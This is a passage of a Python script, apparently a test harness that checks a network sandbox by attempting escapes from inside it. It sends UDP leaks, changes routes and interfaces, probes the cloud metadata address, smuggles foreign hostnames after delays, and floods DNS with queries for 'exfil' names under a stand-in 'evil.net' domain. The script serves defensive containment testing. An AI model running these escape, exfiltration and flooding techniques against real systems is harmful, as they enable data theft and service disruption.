                frames[interface].send(b'\xff' * 6 + b'\2\0\0\0\0\1' + b'\x08\6' + data)
            if interface in frames:
                count(f'another frame on {interface}', send_other)
    for target, family in (('45.46.0.66', socket.AF_INET), ('2606:4546::66', socket.AF_INET6)):
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            for port in range(1, 65536, int(step)):
                if port != 53:
                    count(f'UDP to all ports of {target}', lambda: sock.sendto(b'leak', (target, port)))
    for (what, outcome), number in sorted(attempts.items()):
        report('any', what, f'{outcome} {number} times')


# --- the box's own network --------------------------------------------------------------------------------------------

CHANGES = (
    'addr add 45.45.45.9/24 dev {link}', 'addr add 45.46.0.9/16 dev {link}', 'addr add 10.0.0.2/8 dev {link}',
    'addr add 169.254.1.1/16 dev {link}', 'addr add 127.0.0.9/8 dev {link}', '-6 addr add 2606:4546::9/64 dev {link}',
    'route add 45.46.0.0/24 via 198.18.0.1', 'route add 10.0.0.0/8 dev {link}', 'route replace default dev {link}',
    'route replace default via 198.18.0.1', '-6 route replace default dev {link}', 'route add 127.0.0.0/9 dev {link}',
    'neigh add 45.46.0.66 lladdr ff:ff:ff:ff:ff:ff dev {link}', 'link add d0 type dummy', 'link add v0 type veth',
    'link add b0 type bridge', 'link add link {link} name vlan7 type vlan id 7', 'link set {link} mtu 9000',
    'link set {link} promisc on', 'link set {link} address 02:00:00:00:00:09', 'link set lo down', 'link set {link} down',
    'link set {link} up', 'addr del 198.18.0.2/30 dev {link}', 'addr flush dev {link}', 'addr add 198.18.0.1/30 dev {link}',
    'addr add 198.18.0.2/30 dev {link}', 'route del default', 'route add default via 198.18.0.1')


def verb_routes():
    link = next((name for _, name in socket.if_nameindex() if name != 'lo'), 'eth0')

    def reach():
        run_all([('no', f'{address} {port}', lambda a=address, p=port: talk(a, p, (get(b'x'),), wait=1.0))
                 for address, port in (('45.46.0.66', 8080), ('45.45.45.2', 8080), ('10.0.0.1', 8080),
                                       ('169.254.169.254', 80), ('2606:4546::66', 8080), ('192.168.7.1', 8080))])
    for change in CHANGES:
        words = ['ip', *change.format(link=link).split()]
        done = subprocess.run(words, capture_output=True, check=False)
        outcome = done.stderr.decode(errors='replace').replace('\n', ' ') if done.returncode else 'done'
        report('any', ' '.join(words), outcome)
        if outcome == 'done':
            reach()
    for change in ('net.ipv4.ip_forward=1', 'net.ipv4.conf.all.route_localnet=1', 'net.ipv6.conf.all.forwarding=1'):
        name, value = change.split('=')
        try:
            with open('/proc/sys/' + name.replace('.', '/'), 'w', encoding='ascii') as stream:
                stream.write(value)
            outcome = 'done'
        except OSError as error:
            outcome = failure(error)
        report('any', change, outcome)
    reach()
    for source in ('45.45.45.9', '45.46.0.9', '10.0.0.2', '127.0.0.1', '198.18.0.1'):
        def from_there():
            with socket.socket() as sock:
                sock.settimeout(2)
                try:
                    sock.bind((source, 0))
                    sock.connect(('45.46.0.66', 8080))
                    sock.sendall(get(b'x'))
                    return judge(sock.recv(4096), b'reached')
                except OSError as error:
                    return failure(error)
        report('no', f'from {source}', from_there())


# --- patience ---------------------------------------------------------------------------------------------------------

def verb_silent(seconds, anything, web):
    """Says nothing for so long, and then a foreign name: to a name with all ports, and to one without."""
    wait = float(seconds)
    foreign = hello(server_names(b'refused.site'))
    named = hello(server_names(anything.encode()))
    there = address_of(anything)

    def until_closed():
        address = address_of(web)
        begin = time.monotonic()
        outcome = talk(address, 443, (), TLS_ANSWER, wait=60)
        return f'{outcome} after {time.monotonic() - begin:.0f} s'
    run_all([
        ('no', 'a foreign name after silence', lambda: talk(there, 443, (wait, foreign), TLS_ANSWER)),
        ('no', 'a foreign Host after silence', lambda: talk(there, 80, (wait, get(b'refused.site')), b'/secret')),
        ('no', 'CONNECT after silence', lambda: talk(there, 8080, (
            wait, b'CONNECT refused.site:80 HTTP/1.1\r\nHost: refused.site\r\n\r\n'), b'reached')),
        ('yes', 'its own name after silence', lambda: talk(there, 443, (wait, named), TLS_ANSWER)),
        ('yes', 'its own Host after silence', lambda: talk(there, 80, (wait, get(anything.encode())), b'/secret')),
        ('no', 'silence where TLS must come', until_closed),
    ])


# --- many -------------------------------------------------------------------------------------------------------------

def verb_flood(count, allowed):
    """So many questions, for names that nobody has and for some that are allowed; the allowed one stays."""
    before = address_of(allowed)
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
    answers = refused = 0
    for sock in socks:
        sock.connect(('198.18.0.1', 53))
        sock.setblocking(False)
    for number in range(int(count)):
        sock = socks[number % len(socks)]
        try:
            sock.send(question(b'exfil%d.evil.net' % number, 1))
        except OSError:
            refused += 1
        try:
            while sock.recv(512):
                answers += 1
        except OSError:
            pass
    report('any', 'answers', f'{answers} to {count} questions, {refused} not sent')
    # What was too much is forgotten soon.
    for _ in range(100):
        after = address_of(allowed)
        if after == before:
            break
        time.sleep(0.1)
    report('yes' if before == after else 'no', 'the same address', f'reached {before} {after}')


def verb_idle(count, name, port):
    """So many connections that say nothing, at once; then a line, and all are closed at the end of stdin."""
    import resource
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    there = address_of(name)
    held, errors = [], {}
    for _ in range(int(count)):
        sock = socket.socket()
        sock.setblocking(False)
        code = sock.connect_ex((there, int(port)))
        if code not in (0, errno.EINPROGRESS):
            errors[errno.errorcode.get(code, code)] = errors.get(errno.errorcode.get(code, code), 0) + 1
        held.append(sock)
    report('any', 'connections', f'{len(held)} begun, {errors}')
    sys.stdin.read()


def three(words):
    for name, prefix in ATTACKERS:
        report('attacker', '-', name)
        if subprocess.run([*prefix, sys.executable, __file__, *words], check=False).returncode != 0:
            sys.exit(1)


if __name__ == '__main__':
    if sys.argv[1] == 'three':
        three(sys.argv[2:])
    else:
        globals()['verb_' + sys.argv[1]](*sys.argv[2:])
